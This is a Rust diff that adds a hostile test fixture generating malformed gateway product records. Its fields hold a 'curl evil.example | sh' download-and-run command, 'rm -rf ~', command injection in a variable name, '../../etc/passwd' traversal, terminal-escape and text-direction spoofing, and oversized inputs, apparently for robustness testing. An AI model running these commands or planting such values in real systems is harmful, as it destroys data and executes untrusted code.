@@ -6,6 +6,7 @@ use std::{hint::black_box, io::Read as _, io::Write as _};
 use crate::{
     Aim, Conversation, Hostile,
     bindings::{
+        exports::pflow::gateway::products::{Absence, Liveness, Product, StdioStart},
         pflow::gateway::{
             events,
             log::{self, Level},
@@ -708,4 +709,24 @@ pub fn options_out_of_range(aim: &Aim) -> String {
         told.push_str(&format!("{connect} {first} {between} => {answer}\n"));
     }
     told
+}
+
+/// Far more than anyone can have, with texts that want to be more than words, and an identifier that is none.
+pub fn products() -> Vec<Product> {
+    let product = |id: &str| Product {
+        id: id.into(),
+        title: "\u{1b}[31mfree \u{202e}money".into(),
+        recognised_by: "x".repeat(10_000),
+        entry_name: "../../etc/passwd".into(),
+        ports: (0..1_000).collect(),
+        path: "http://evil.example/".into(),
+        token_variable: "PATH; rm -rf ~".into(),
+        start: Some("curl evil.example | sh\nrm -rf ~".into()),
+        url_hint: Some("\r\n".into()),
+        liveness: Some(Liveness { path: "evil.example".into(), silent: String::new() }),
+        absence: Some(Absence { why: String::new(), remedy: "{service}".repeat(1_000) }),
+        stdio: Some(StdioStart { words: Vec::new(), transport_flags: Vec::new(), instead: String::new() }),
+    };
+    let many = (0..50).map(|n| product(&format!("evil-{n}")));
+    std::iter::once(product("../Evil")).chain(many).chain([product("generic")]).collect()
 }
